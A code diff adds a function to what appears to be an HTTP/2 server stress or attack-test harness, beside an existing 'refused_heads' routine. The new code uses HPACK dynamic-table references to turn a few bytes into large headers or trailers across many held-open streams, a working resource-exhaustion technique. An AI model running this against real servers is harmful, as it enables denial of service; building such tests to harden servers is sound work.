@@ -328,3 +328,26 @@ def refused_heads(target, count):
         )
 
     attack(target, count, act, most=300)
+
+
+def large_heads(target, count, kind):
+    """Begins a hundred uploads on each connection, with heads of 16 KB or trailers of 8 KB that take few bytes."""
+
+    def begin():
+        client = Client(target)
+        fields = literal(b"x-a", b"y" * 1900, pattern=0x40) + literal(b"x-b", b"z" * 1900, pattern=0x40)
+        frames = frame(HEADERS, END_HEADERS | END_STREAM, client.next_streams(1)[0], request() + fields)
+        # The two entries of the dynamic table are number 62 and 63.
+        repeated = b"\xbe\xbf" * (4 if kind == "head" else 2)
+        path = b"/reverse?delay_ms=60000"
+        for stream in client.next_streams(STREAMS):
+            head = request(path, b"POST") + (repeated if kind == "head" else b"")
+            frames += frame(HEADERS, END_HEADERS, stream, head)
+            if kind == "head":
+                frames += frame(DATA, END_STREAM, stream, b"x")
+            else:
+                frames += frame(DATA, 0, stream, b"x") + frame(HEADERS, END_HEADERS | END_STREAM, stream, repeated)
+        client.connection.sendall(frames)
+        return client.connection
+
+    target.hold(count, begin)
